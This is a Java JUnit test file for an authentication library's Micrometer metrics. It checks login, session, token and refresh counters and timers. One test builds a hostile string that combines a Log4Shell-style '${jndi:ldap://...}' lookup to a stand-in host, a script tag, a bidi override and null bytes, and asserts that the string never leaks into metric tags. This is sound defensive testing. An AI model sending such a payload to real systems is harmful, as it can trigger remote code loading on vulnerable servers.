package dev.latchkey.micrometer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.latchkey.core.AuthEvent;
import dev.latchkey.core.AuthListener;
import dev.latchkey.core.AuthResult;
import dev.latchkey.core.AuthResult.Reason;
import dev.latchkey.core.Authenticator;
import dev.latchkey.core.AuthenticatorChain;
import dev.latchkey.core.BearerToken;
import dev.latchkey.core.ClientInfo;
import dev.latchkey.core.Credentials;
import dev.latchkey.core.InMemoryUserDirectory;
import dev.latchkey.core.LoginThrottle;
import dev.latchkey.core.PasswordAuthenticator;
import dev.latchkey.core.PasswordCredentials;
import dev.latchkey.core.PasswordHasher;
import dev.latchkey.core.Principal;
import dev.latchkey.core.SessionCookie;
import dev.latchkey.core.StoreUnavailableException;
import dev.latchkey.core.TestClock;
import dev.latchkey.core.ThrottlePolicy;
import dev.latchkey.core.UserAccount;
import dev.latchkey.core.UserDirectory;
import dev.latchkey.session.SessionManager;
import dev.latchkey.token.JwtTokenService;
import dev.latchkey.token.KeyRing;
import dev.latchkey.token.RefreshTokens;
import dev.latchkey.token.SigningAlgorithm;
import dev.latchkey.token.SigningKey;
import io.micrometer.core.instrument.Counter;
import io.micrometer.core.instrument.MockClock;
import io.micrometer.core.instrument.Tag;
import io.micrometer.core.instrument.Timer;
import io.micrometer.core.instrument.simple.SimpleConfig;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;

class LatchkeyMetricsTest {
  private static final Principal ALICE = Principal.of("alice", Set.of("user"));

  private final TestClock clock = new TestClock(Instant.parse("2026-01-01T00:00:00Z"));
  private final MockClock meterClock = new MockClock();
  private final SimpleMeterRegistry registry =
      new SimpleMeterRegistry(SimpleConfig.DEFAULT, meterClock);
  private final LatchkeyMetrics metrics = LatchkeyMetrics.builder(registry).build();
  private final PasswordHasher bcrypt = PasswordHasher.bcrypt(4);

  @Test
  void passwordLoginsAreCountedByOutcomeAndReasonAndALockIsAThrottleLock() {
    PasswordAuthenticator passwords = passwords(directoryWithAlice(), metrics);

    passwords.authenticate(login("alice", "s3cret!"));
    passwords.authenticate(login("alice", "wrong"));
    passwords.authenticate(login("alice", "wrong")); // the second failure locks the name
    passwords.authenticate(login("alice", "s3cret!")); // refused: locked
    passwords.authenticate(login("", "x"));

    assertThat(authentications("password", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("password", "failure", "INVALID_CREDENTIALS")).isEqualTo(1);
    assertThat(authentications("password", "failure", "LOCKED")).isEqualTo(2);
    assertThat(authentications("password", "failure", "MALFORMED")).isEqualTo(1);
    assertThat(count("latchkey.throttle.locks", "method", "password")).isEqualTo(2);
    assertThat(count("latchkey.throttle.locks", "method", "session")).isZero();
  }

  @Test
  void aStoreOutageIsCountedAsUnavailable() {
    UserDirectory down =
        new UserDirectory() {
          @Override
          public Optional<UserAccount> findByLoginName(String loginName) {
            throw new StoreUnavailableException("directory down");
          }
        };
    PasswordAuthenticator passwords = passwords(down, metrics);

    AuthResult result = passwords.authenticate(login("alice", "s3cret!"));

    assertThat(result.failure().orElseThrow().reason()).isEqualTo(Reason.UNAVAILABLE);
    assertThat(authentications("password", "failure", "UNAVAILABLE")).isEqualTo(1);
    assertThat(count("latchkey.store.unavailable", "method", "password")).isEqualTo(1);
  }

  @Test
  void sessionChecksAndLogoutsAreCounted() {
    SessionManager sessions =
        SessionManager.builder(SessionManager.inMemoryStore(clock))
            .clock(clock)
            .idleTimeout(Duration.ofMinutes(30))
            .listener(metrics)
            .build();
    String first = sessions.login(ALICE, Map.of()).created().orElseThrow().id();
    String second = sessions.login(ALICE, Map.of()).created().orElseThrow().id();

    sessions.authenticate(new SessionCookie(first));
    sessions.check(new SessionCookie(first));
    sessions.authenticate(new SessionCookie("not a session id"));
    sessions.logout(first);
    sessions.authenticate(new SessionCookie(first));
    clock.advance(Duration.ofHours(1));
    sessions.authenticate(new SessionCookie(second));
    sessions.logoutEverywhere("alice");

    assertThat(authentications("session", "success", "NONE")).isEqualTo(2);
    assertThat(authentications("session", "failure", "MALFORMED")).isEqualTo(1);
    assertThat(
            authentications("session", "failure", "INVALID_CREDENTIALS")
                + authentications("session", "failure", "EXPIRED"))
        .isEqualTo(2);
    assertThat(count("latchkey.logouts", "method", "session", "scope", "one")).isEqualTo(1);
    assertThat(count("latchkey.logouts", "method", "session", "scope", "everywhere")).isEqualTo(1);
  }

  @Test
  void tokenVerificationsAndRevocationsAreCounted() {
    JwtTokenService tokens = tokens(metrics);
    Authenticator<BearerToken> bearer = tokens.authenticator();
    String token = tokens.issue(ALICE).value();

    bearer.authenticate(new BearerToken(token));
    bearer.authenticate(new BearerToken("not.a.jwt"));
    tokens.revoke(token);
    bearer.authenticate(new BearerToken(token));
    tokens.revokeAll("alice");

    assertThat(authentications("bearer", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("bearer", "failure", "MALFORMED")).isEqualTo(1);
    assertThat(authentications("bearer", "failure", "REVOKED")).isEqualTo(1);
    assertThat(count("latchkey.revocations", "what", "access_token")).isEqualTo(1);
    assertThat(count("latchkey.revocations", "what", "all_access_tokens")).isEqualTo(1);
  }

  @Test
  void refreshesReuseAndTheRotationLimitAreCounted() {
    JwtTokenService tokens = tokens(metrics);
    RefreshTokens refresh =
        RefreshTokens.builder(tokens, RefreshTokens.inMemoryStore(clock))
            .clock(clock)
            .rotationLimit(2, Duration.ofMinutes(1))
            .listener(metrics)
            .build();
    RefreshTokens.TokenPair first = refresh.login(ALICE);

    RefreshTokens.TokenPair second = refresh.refresh(first.refreshToken()).tokens().orElseThrow();
    RefreshTokens.Result reused = refresh.refresh(first.refreshToken());
    RefreshTokens.TokenPair other = refresh.login(ALICE);
    RefreshTokens.TokenPair next = refresh.refresh(other.refreshToken()).tokens().orElseThrow();
    RefreshTokens.TokenPair last = refresh.refresh(next.refreshToken()).tokens().orElseThrow();
    RefreshTokens.Result limited = refresh.refresh(last.refreshToken());
    refresh.logout(last.refreshToken());

    assertThat(second).isNotNull();
    assertThat(reused.failure().orElseThrow().reason()).isEqualTo(Reason.REVOKED);
    assertThat(limited.failure().orElseThrow().reason()).isEqualTo(Reason.LOCKED);
    assertThat(authentications("refresh", "success", "NONE")).isEqualTo(3);
    assertThat(authentications("refresh", "failure", "REVOKED")).isEqualTo(1);
    assertThat(authentications("refresh", "failure", "LOCKED")).isEqualTo(1);
    assertThat(count("latchkey.refresh.reuse")).isEqualTo(1);
    assertThat(count("latchkey.revocations", "what", "refresh_token_reuse")).isEqualTo(1);
    assertThat(count("latchkey.throttle.locks", "method", "refresh")).isEqualTo(1);
    assertThat(count("latchkey.logouts", "method", "refresh", "scope", "one")).isEqualTo(1);
  }

  @Test
  void aTimedStrategyAnswersAsItsDelegateAndIsTimedByMethodAndOutcome() {
    PasswordAuthenticator passwords = passwords(directoryWithAlice(), AuthListener.none());
    Authenticator<PasswordCredentials> timed = metrics.timed(passwords);
    AuthenticatorChain chain = AuthenticatorChain.builder().add(timed).build();

    AuthResult right = chain.authenticate(login("alice", "s3cret!"));
    AuthResult wrong = chain.authenticate(login("alice", "wrong"));

    assertThat(timed.credentialType()).isEqualTo(PasswordCredentials.class);
    assertThat(right).isEqualTo(AuthResult.success(Principal.of("user-1", Set.of())));
    assertThat(wrong.failure().orElseThrow().reason()).isEqualTo(Reason.INVALID_CREDENTIALS);
    assertThat(timer("password", "success").count()).isEqualTo(1);
    assertThat(timer("password", "failure").count()).isEqualTo(1);
    assertThat(timer("password", "error").count()).isZero();
  }

  @Test
  void aTimedStrategyRecordsTheTimeOfTheRegistrysClock() {
    Authenticator<SessionCookie> slow =
        strategy(
            SessionCookie.class,
            c -> {
              meterClock.add(Duration.ofMillis(40));
              return AuthResult.success(ALICE);
            });

    metrics.timed(slow).authenticate(new SessionCookie("x"));

    assertThat(timer("session", "success").totalTime(TimeUnit.MILLISECONDS)).isEqualTo(40.0);
  }

  @Test
  void aStrategyThatThrowsIsTimedAsAnErrorAndTheExceptionPropagates() {
    Authenticator<BearerToken> broken =
        strategy(
            BearerToken.class,
            c -> {
              throw new IllegalStateException("broken strategy");
            });

    assertThatThrownBy(() -> metrics.timed(broken).authenticate(new BearerToken("t")))
        .isInstanceOf(IllegalStateException.class);
    assertThat(timer("bearer", "error").count()).isEqualTo(1);
  }

  @Test
  void anApplicationsOwnStrategyIsTaggedOther() {
    record ApiKey(String value) implements Credentials {}
    Authenticator<ApiKey> keys = strategy(ApiKey.class, c -> AuthResult.success(ALICE));

    metrics.timed(keys).authenticate(new ApiKey("k"));
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "alice", "api-key"));

    assertThat(timer("other", "success").count()).isEqualTo(1);
    assertThat(authentications("other", "success", "NONE")).isEqualTo(1);
  }

  @Test
  void everyTagValueComesFromAFixedSetWhateverTheEventsCarry() {
    LatchkeyMetrics tagged = LatchkeyMetrics.builder(registry).tag("app", "shop").build();
    String hostile = "x\n\u202e${jndi:ldap://e.vil/a}<script>" + "\u0000".repeat(3);
    ClientInfo client = new ClientInfo("203.0.113.66", hostile);
    PasswordAuthenticator passwords = passwords(directoryWithAlice(), tagged);

    ClientInfo.during(
        client,
        () -> {
          passwords.authenticate(PasswordCredentials.of(hostile, "pw".toCharArray(), hostile));
          for (Reason reason : Reason.values()) {
            tagged.onEvent(new AuthEvent.Failed(clock.instant(), hostile, hostile, reason));
          }
          tagged.onEvent(new AuthEvent.Succeeded(clock.instant(), hostile, hostile));
          tagged.onEvent(new AuthEvent.LoggedOut(clock.instant(), hostile, hostile, true));
          tagged.onEvent(new AuthEvent.Revoked(clock.instant(), hostile, hostile));
          tagged.onEvent(new AuthEvent.Revoked(clock.instant(), hostile, "refresh token reuse"));
          return null;
        });

    Set<String> allowed = new HashSet<>(Set.of("shop", "success", "failure", "error", "NONE"));
    Arrays.stream(MethodTag.values()).map(tag -> tag.value).forEach(allowed::add);
    allowed.addAll(Set.of("one", "everywhere"));
    allowed.addAll(
        Set.of(
            "refresh_token_reuse",
            "subject_disabled",
            "access_token",
            "all_access_tokens",
            "refresh_family"));
    Arrays.stream(Reason.values()).map(Reason::name).forEach(allowed::add);
    Set<String> seen =
        registry.getMeters().stream()
            .flatMap(m -> m.getId().getTags().stream())
            .map(Tag::getValue)
            .collect(Collectors.toSet());
    assertThat(allowed).containsAll(seen);
    assertThat(seen).doesNotContain(hostile, "203.0.113.66", "alice");
    assertThat(
            registry.get("latchkey.authentications").tag("app", "shop").counters().stream()
                .mapToDouble(Counter::count)
                .sum())
        .isEqualTo(1 + Reason.values().length + 1);
  }

  @Test
  void theAccountFlowsCountUnderTagsOfTheirOwn() {
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "alice", "api_key"));
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "alice", "recovery_code"));
    metrics.onEvent(
        new AuthEvent.Failed(clock.instant(), "alice", "totp", Reason.INVALID_CREDENTIALS));
    metrics.onEvent(
        new AuthEvent.Failed(clock.instant(), null, "one_time:password_reset", Reason.EXPIRED));
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "alice", "remember-me"));

    assertThat(authentications("api_key", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("second_factor", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("second_factor", "failure", "INVALID_CREDENTIALS")).isEqualTo(1);
    assertThat(authentications("one_time", "failure", "EXPIRED")).isEqualTo(1);
    assertThat(authentications("remember_me", "success", "NONE")).isEqualTo(1);
  }

  @Test
  void passkeysAndOpenIdSignInsCountUnderTagsOfTheirOwnAndSuspectedClonesApart() {
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "alice", "passkey"));
    metrics.onEvent(
        new AuthEvent.Failed(clock.instant(), "alice", "passkey", Reason.INVALID_CREDENTIALS));
    metrics.onEvent(
        new AuthEvent.CloneSuspected(
            clock.instant(), "alice", "passkey sign counter did not increase"));
    metrics.onEvent(new AuthEvent.Succeeded(clock.instant(), "https://idp#7", "oidc"));
    metrics.onEvent(new AuthEvent.Failed(clock.instant(), null, "oidc", Reason.UNAVAILABLE));

    assertThat(authentications("passkey", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("passkey", "failure", "INVALID_CREDENTIALS")).isEqualTo(1);
    assertThat(count("latchkey.clone.suspected")).isEqualTo(1);
    assertThat(authentications("oidc", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("oidc", "failure", "UNAVAILABLE")).isEqualTo(1);
  }

  @Test
  void aListenerThatThrowsBesideTheMetricsChangesNoOutcomeAndLosesNoCount() {
    AuthListener alsoThrows =
        event -> {
          metrics.onEvent(event);
          throw new IllegalStateException("audit log down");
        };
    PasswordAuthenticator passwords = passwords(directoryWithAlice(), alsoThrows);
    SessionManager sessions =
        SessionManager.builder(SessionManager.inMemoryStore(clock))
            .clock(clock)
            .listener(alsoThrows)
            .build();

    AuthResult login = passwords.authenticate(login("alice", "s3cret!"));
    String id = sessions.login(ALICE, Map.of()).created().orElseThrow().id();
    AuthResult check = sessions.authenticate(new SessionCookie(id));

    assertThat(login.succeeded()).isTrue();
    assertThat(check.succeeded()).isTrue();
    assertThat(authentications("password", "success", "NONE")).isEqualTo(1);
    assertThat(authentications("session", "success", "NONE")).isEqualTo(1);
  }

  @Test
  void everyMeterExistsAtZeroOnceBuilt() {
    SimpleMeterRegistry fresh = new SimpleMeterRegistry();
    LatchkeyMetrics.builder(fresh).build();

    List<String> names =
        fresh.getMeters().stream().map(m -> m.getId().getName()).distinct().sorted().toList();
    assertThat(names)
        .containsExactly(
            "latchkey.authentication.duration",
            "latchkey.authentications",
            "latchkey.clone.suspected",
            "latchkey.logouts",
            "latchkey.refresh.reuse",
            "latchkey.revocations",
            "latchkey.store.unavailable",
            "latchkey.throttle.locks");
    assertThat(
            fresh.getMeters().stream()
                .flatMap(m -> StreamSupport.stream(m.measure().spliterator(), false))
                .filter(measurement -> measurement.getValue() != 0))
        .isEmpty();
    assertThat(fresh.get("latchkey.authentications").counters())
        .hasSize(MethodTag.values().length * (1 + Reason.values().length));
  }

  @Test
  void thePrefixAndCommonTagsApplyToEveryMeter() {
    SimpleMeterRegistry fresh = new SimpleMeterRegistry();
    LatchkeyMetrics.builder(fresh).prefix("shop.auth").tag("region", "eu").build();

    assertThat(fresh.getMeters())
        .isNotEmpty()
        .allSatisfy(
            m -> {
              assertThat(m.getId().getName()).startsWith("shop.auth.");
              assertThat(m.getId().getTag("region")).isEqualTo("eu");
            });
  }

  @Test
  void theBuilderRefusesABadPrefixAndTheMetersOwnTagKeys() {
    LatchkeyMetrics.Builder builder = LatchkeyMetrics.builder(new SimpleMeterRegistry());

    assertThatThrownBy(() -> builder.prefix("Latchkey."))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("Latchkey.");
    assertThatThrownBy(() -> builder.prefix("")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> builder.tag("method", "x"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("method");
    assertThatThrownBy(() -> LatchkeyMetrics.builder(null))
        .isInstanceOf(NullPointerException.class);
    assertThatThrownBy(() -> metrics.timed(null)).isInstanceOf(NullPointerException.class);
  }

  private double authentications(String method, String outcome, String reason) {
    return registry
        .get("latchkey.authentications")
        .tags("method", method, "outcome", outcome, "reason", reason)
        .counter()
        .count();
  }

  private double count(String name, String... tags) {
    return registry.get(name).tags(tags).counter().count();
  }

  private Timer timer(String method, String outcome) {
    return registry
        .get("latchkey.authentication.duration")
        .tags("method", method, "outcome", outcome)
        .timer();
  }

  private InMemoryUserDirectory directoryWithAlice() {
    InMemoryUserDirectory directory = InMemoryUserDirectory.create();
    directory.add(
        new UserAccount(
            "alice", Principal.of("user-1", Set.of()), bcrypt.hash("s3cret!".toCharArray())));
    return directory;
  }

  private PasswordAuthenticator passwords(UserDirectory directory, AuthListener listener) {
    return PasswordAuthenticator.builder(directory, bcrypt)
        .throttle(
            LoginThrottle.inMemory(
                new ThrottlePolicy(
                    2, 50, Duration.ofMinutes(15), Duration.ofMinutes(1), Duration.ofHours(1)),
                clock))
        .listener(listener)
        .clock(clock)
        .build();
  }

  private JwtTokenService tokens(AuthListener listener) {
    return JwtTokenService.builder(
            KeyRing.of(SigningKey.hmac("k", new byte[32], SigningAlgorithm.HS256)), "iss", "aud")
        .clock(clock)
        .listener(listener)
        .build();
  }

  private static PasswordCredentials login(String name, String password) {
    return PasswordCredentials.of(name, password.toCharArray());
  }

  private static <C extends Credentials> Authenticator<C> strategy(
      Class<C> type, Function<C, AuthResult> answer) {
    return new Authenticator<>() {
      @Override
      public Class<C> credentialType() {
        return type;
      }

      @Override
      public AuthResult authenticate(C credentials) {
        return answer.apply(credentials);
      }
    };
  }
}
